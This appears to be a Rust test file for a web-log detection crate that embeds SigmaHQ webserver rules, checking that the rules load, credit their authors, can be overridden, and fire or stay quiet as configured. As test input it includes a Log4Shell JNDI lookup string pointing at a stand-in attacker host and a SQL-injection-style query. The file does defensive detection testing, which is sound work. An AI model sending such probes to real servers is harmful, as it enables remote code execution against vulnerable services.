//! The SigmaHQ web rules embedded in the crate (`rules/`): they all load, a rule directory
//! overrides an embedded rule by id and extends the set with new ids, and every alert credits
//! the rule's author (DRL 1.1).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use rampart_detect::{Detector, EventCtx};
use rampart_model::{AlertSource, ApiEvent, Timestamp};
use rampart_sigma::{
    builtin, builtin_sources, load_with_builtin, RuleKind, SigmaConfig, SigmaDetector,
    BUILTIN_PREFIX,
};

/// The 141 `webserver` / `proxy` rules of SigmaHQ copied into `rules/`.
const EMBEDDED: usize = 141;

fn rule(dir: &Path, file: &str, id: &str, title: &str, needle: &str) {
    std::fs::write(
        dir.join(file),
        format!(
            "title: {title}\nid: {id}\nauthor: Test Author\nlogsource:\n  category: webserver\n\
             detection:\n  sel:\n    cs-uri-query|contains: '{needle}'\n  condition: sel\n\
             level: high\n"
        ),
    )
    .expect("write rule");
}

fn event(query: &str) -> ApiEvent<'static> {
    ApiEvent {
        ts: Timestamp::from_secs(1_728_568_536),
        client_ip: "203.0.113.5".parse().ok(),
        method: "GET".into(),
        host: "api.example.com".into(),
        path: "/search".into(),
        query: query.to_string().into(),
        protocol: "HTTP/1.1".into(),
        status: 200,
        raw: format!("GET /search?{query} HTTP/1.1").into(),
        source_format: "combined".into(),
        ..Default::default()
    }
}

#[test]
fn every_embedded_rule_loads() {
    let sources = builtin_sources();
    assert_eq!(sources.len(), EMBEDDED);
    assert!(sources.iter().all(|(p, _)| p.starts_with(BUILTIN_PREFIX)));
    let (rules, report) = builtin();
    for (what, why) in &report.refused {
        println!("refused {what}: {why}");
    }
    assert_eq!(report.refused, Vec::<(String, String)>::new());
    assert_eq!(report.loaded.len(), EMBEDDED);
    assert_eq!(rules.len(), EMBEDDED);
    assert!(report.overridden.is_empty());
    assert!(report.loaded.iter().all(|r| r.kind == RuleKind::Detection));
    assert!(report.loaded.iter().all(|r| !r.id.is_empty()));
    // Without directories, `load_with_builtin` is the embedded set.
    let (same, _) = load_with_builtin(&[]).expect("no directories");
    assert_eq!(same.rules(), rules.rules());
}

/// DRL 1.1: the author is shown with every match. An embedded rule without `author:` would
/// show "unknown author", so none may lack one.
#[test]
fn every_embedded_rule_has_an_author_and_alerts_credit_it() {
    let (rules, _) = builtin();
    let anonymous: Vec<&str> = rules
        .rules()
        .iter()
        .filter(|r| r.author.trim().is_empty())
        .map(|r| r.path.as_str())
        .collect();
    assert!(
        anonymous.is_empty(),
        "rules without an author: {anonymous:?}"
    );

    let mut det = SigmaDetector::new(Arc::new(rules), SigmaConfig::default());
    let ev = event("q=${jndi:ldap://evil.example/a}");
    let mut out = Vec::new();
    det.observe(&EventCtx::new(&ev), &mut out);
    assert!(
        !out.is_empty(),
        "no embedded rule fired on a Log4Shell probe"
    );
    for a in &out {
        let AlertSource::Sigma(sigma) = &a.source else {
            panic!("not a sigma alert: {a:?}");
        };
        assert!(!sigma.author.is_empty(), "{a:?}");
        assert!(
            a.description
                .ends_with(&format!("Sigma rule by {} (DRL 1.1)", sigma.author)),
            "{}",
            a.description
        );
    }
}

/// A directory rule with an embedded rule's id replaces it: same count, the directory's
/// title, reported as overridden and not as a refused duplicate; a new id extends the set.
#[test]
fn directory_rules_override_by_id_and_extend() {
    let (base, _) = builtin();
    let target = base.rules()[0].clone();
    let dir = tempfile::tempdir().expect("temp dir");
    rule(
        dir.path(),
        "override.yml",
        &target.id,
        "local override",
        "zzlocalzz",
    );
    rule(
        dir.path(),
        "new.yml",
        "00000000-0000-0000-0000-0000000000e1",
        "local extension",
        "yylocalyy",
    );
    let (rules, report) =
        load_with_builtin(&[dir.path().to_path_buf()]).expect("load with a directory");
    assert_eq!(report.refused, Vec::<(String, String)>::new());
    assert_eq!(
        report.overridden,
        vec![(target.id.clone(), target.path.clone())]
    );
    assert_eq!(rules.len(), EMBEDDED + 1);
    let by_id: BTreeMap<&str, &str> = rules
        .rules()
        .iter()
        .map(|r| (r.id.as_str(), r.title.as_str()))
        .collect();
    assert_eq!(by_id[target.id.as_str()], "local override");
    assert_eq!(
        by_id["00000000-0000-0000-0000-0000000000e1"],
        "local extension"
    );
    assert!(!rules.rules().iter().any(|r| r.title == target.title));
    // The 140 other embedded rules first, then the directory's in file order.
    assert!(rules.rules()[..EMBEDDED - 1]
        .iter()
        .all(|r| r.path.starts_with(BUILTIN_PREFIX)));
    let tail: Vec<&str> = rules.rules()[EMBEDDED - 1..]
        .iter()
        .map(|r| r.title.as_str())
        .collect();
    assert_eq!(tail, ["local extension", "local override"]);

    // The override fires on its own needle, not as the embedded rule did.
    let mut det = SigmaDetector::new(Arc::new(rules), SigmaConfig::default());
    let ev = event("q=zzlocalzz");
    let mut out = Vec::new();
    det.observe(&EventCtx::new(&ev), &mut out);
    let titles: Vec<&str> = out.iter().map(|a| a.title.as_str()).collect();
    assert!(
        titles.iter().any(|t| t.contains("local override")),
        "{titles:?}"
    );
}

/// Among directories the first rule with an id wins (as `load_dirs`), and both shadow the
/// embedded rule of that id.
#[test]
fn first_directory_wins_among_directories() {
    let (base, _) = builtin();
    let target = base.rules()[1].clone();
    let a = tempfile::tempdir().expect("temp dir");
    let b = tempfile::tempdir().expect("temp dir");
    rule(a.path(), "o.yml", &target.id, "from a", "aaa");
    rule(b.path(), "o.yml", &target.id, "from b", "bbb");
    let dirs: Vec<PathBuf> = vec![a.path().to_path_buf(), b.path().to_path_buf()];
    let (rules, report) = load_with_builtin(&dirs).expect("load");
    assert_eq!(rules.len(), EMBEDDED);
    assert_eq!(report.overridden.len(), 1);
    assert_eq!(report.refused.len(), 1, "{:?}", report.refused);
    assert!(report.refused[0].1.contains("duplicate rule id"));
    let titles: Vec<&str> = rules
        .rules()
        .iter()
        .filter(|r| r.id == target.id)
        .map(|r| r.title.as_str())
        .collect();
    assert_eq!(titles, ["from a"]);

    let Err(err) = load_with_builtin(&[PathBuf::from("/nonexistent/rampart-sigma")]) else {
        panic!("a missing directory is accepted");
    };
    assert!(err.to_string().contains("nonexistent"), "{err}");
}

/// The embedded files are the shared SigmaHQ corpus unchanged (a test of the copy; refresh
/// `rules/` when the corpus changes).
#[test]
fn embedded_rules_are_the_shared_corpus_unchanged() {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora/sigma-web");
    assert!(
        dir.is_dir(),
        "sigma web rule corpus missing: {} (expected the shared SigmaHQ web rules there)",
        dir.display()
    );
    for (path, text) in builtin_sources() {
        let rel = path.strip_prefix(BUILTIN_PREFIX).expect("prefix");
        let shared = std::fs::read_to_string(dir.join(rel))
            .unwrap_or_else(|e| panic!("reading {rel} in {}: {e}", dir.display()));
        assert!(shared == text, "{rel} differs from the shared corpus");
    }
}

/// An alert of the content detector on `ev`, as the detectors before Sigma would raise it.
fn content_alert(ev: &ApiEvent<'_>) -> rampart_model::AlertDraft {
    rampart_detect::common::alert(
        "content_inspection",
        "SQL injection in q".to_string(),
        rampart_model::Severity::High,
        rampart_model::AttackStage::Exploitation,
        ev.ts,
    )
    .build()
}

/// SigmaHQ's generic keyword rules match words (`select%20*%20` is a wildcard pattern that
/// prose meets): alone they raise nothing; with a content detector's alert on the same request
/// they do; with `corroborate` emptied they fire on their own again.
#[test]
fn keyword_rules_need_a_corroborating_content_alert() {
    let (rules, _) = builtin();
    let rules = Arc::new(rules);
    let ev = event("q=_SELECT%20all%20the%20rows%20of%20fromDate%20%3D%20%40-_");
    let titles = |out: &[rampart_model::AlertDraft]| -> Vec<String> {
        out.iter()
            .filter(|a| a.detector == "sigma")
            .map(|a| a.title.clone())
            .collect()
    };

    let mut det = SigmaDetector::new(Arc::clone(&rules), SigmaConfig::default());
    let mut out = Vec::new();
    det.observe(&EventCtx::new(&ev), &mut out);
    assert_eq!(
        titles(&out),
        Vec::<String>::new(),
        "uncorroborated keyword match"
    );
    assert_eq!(det.stats().uncorroborated, 1);

    // A content detector flagged the request first (same alert buffer, this event's range).
    let mut det = SigmaDetector::new(Arc::clone(&rules), SigmaConfig::default());
    let prior = content_alert(&ev);
    let mut out = vec![prior];
    det.observe(&EventCtx::new(&ev), &mut out);
    assert_eq!(
        titles(&out),
        vec!["SQL Injection Strings In URI".to_string()]
    );

    // An alert of an earlier event (before `first_alert`) corroborates nothing.
    let mut det = SigmaDetector::new(Arc::clone(&rules), SigmaConfig::default());
    let prior = content_alert(&ev);
    let mut out = vec![prior];
    let mut cx = EventCtx::new(&ev);
    cx.first_alert = 1;
    det.observe(&cx, &mut out);
    assert_eq!(titles(&out), Vec::<String>::new());

    let cfg = SigmaConfig {
        corroborate: Vec::new(),
        ..SigmaConfig::default()
    };
    let mut det = SigmaDetector::new(rules, cfg);
    let mut out = Vec::new();
    det.observe(&EventCtx::new(&ev), &mut out);
    assert_eq!(
        titles(&out),
        vec!["SQL Injection Strings In URI".to_string()]
    );
}

/// The outbound proxy rules (`OUTBOUND_RULES`) are skipped by default: Googlebot crawling the
/// API is not an exploit framework; with `skip` emptied the rule fires as SigmaHQ wrote it.
#[test]
fn outbound_proxy_rules_are_skipped_by_default() {
    let (rules, _) = builtin();
    let rules = Arc::new(rules);
    let mut ev = event("page=2");
    ev.user_agent =
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)".into();
    let run = |cfg: SigmaConfig| -> Vec<String> {
        let mut det = SigmaDetector::new(Arc::clone(&rules), cfg);
        let mut out = Vec::new();
        det.observe(&EventCtx::new(&ev), &mut out);
        out.iter().map(|a| a.title.clone()).collect()
    };
    assert_eq!(run(SigmaConfig::default()), Vec::<String>::new());
    let all = SigmaConfig {
        skip: Vec::new(),
        ..SigmaConfig::default()
    };
    assert_eq!(run(all), vec!["Exploit Framework User Agent".to_string()]);
}
